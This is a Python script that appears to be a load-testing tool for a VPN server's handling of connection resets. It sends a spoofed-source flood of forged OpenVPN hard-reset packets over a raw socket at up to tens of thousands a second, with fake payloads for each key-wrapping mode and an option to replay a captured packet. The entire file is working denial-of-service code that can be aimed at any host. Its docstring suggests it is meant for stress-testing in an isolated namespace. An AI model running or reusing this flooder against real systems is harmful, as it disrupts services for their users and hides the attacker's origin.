"""A flood of forged hard resets: as many a second as asked for, each from another invented address.

A program of its own, in a namespace on the WAN. It knows no key: what stands behind a reset's session id is
invented too, in the length that the wrap has. With `--packet` it sends a captured packet again and again.
"""

from __future__ import annotations

import argparse
import json
import random
import socket
import struct
import time

LENGTHS = {"none": 14, "tls-auth": 42, "tls-crypt": 54, "tls-crypt-v2": 54 + 1024}
"""Bytes of a hard reset (tls-auth with SHA1, tls-crypt-v2 with the largest key)."""
TURN_SECONDS = 0.001


def forged(wrap: str, draw: random.Random) -> bytes:
    """The payload of a forged hard reset."""
    if wrap == "tls-crypt-v2":
        return bytes([10 << 3]) + draw.randbytes(LENGTHS[wrap] - 3) + (1024).to_bytes(2, "big")
    payload = bytes([7 << 3]) + draw.randbytes(8)
    return payload + (bytes(5) if wrap == "none" else draw.randbytes(LENGTHS[wrap] - 9))


def from_anywhere(target: str, port: int, payload: bytes, draw: random.Random) -> bytes:
    """An IPv4 packet, its source invented; no UDP checksum."""
    source = bytes((draw.randrange(1, 223), *draw.randbytes(3)))
    length = 28 + len(payload)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0, 64, 17, 0) + source + socket.inet_aton(target)
    return ip + struct.pack("!HHHH", draw.randrange(1024, 65536), port, 8 + len(payload), 0) + payload


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("target")
    parser.add_argument("port", type=int)
    parser.add_argument("--wrap", choices=sorted(LENGTHS), default="none")
    parser.add_argument("--packet", type=bytes.fromhex, help="a captured one, in hex")
    parser.add_argument("--rate", type=int, default=20_000, help="packets a second")
    parser.add_argument("--seconds", type=float, default=10.0)
    arguments = parser.parse_args()
    draw = random.Random()
    # Made beforehand: the machine is the server's and the tunnel's, not ours.
    count = int(arguments.rate * arguments.seconds)
    where = (arguments.target, arguments.port)
    payloads = (arguments.packet or forged(arguments.wrap, draw) for _ in range(count))
    packets = [from_anywhere(*where, payload, draw) for payload in payloads]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    to = (arguments.target, 0)
    print(json.dumps({"ready": count}), flush=True)
    began, cpu, sent = time.monotonic(), time.process_time(), 0
    while sent < count and (now := time.monotonic()) < began + 2 * arguments.seconds:
        due = min(count, int((now - began) * arguments.rate))
        for packet in packets[sent:due]:
            sock.sendto(packet, to)
        sent = max(sent, due)
        time.sleep(TURN_SECONDS)
    seconds = time.monotonic() - began
    print(json.dumps({"sent": sent, "seconds": seconds, "cpu": time.process_time() - cpu}), flush=True)


if __name__ == "__main__":
    main()
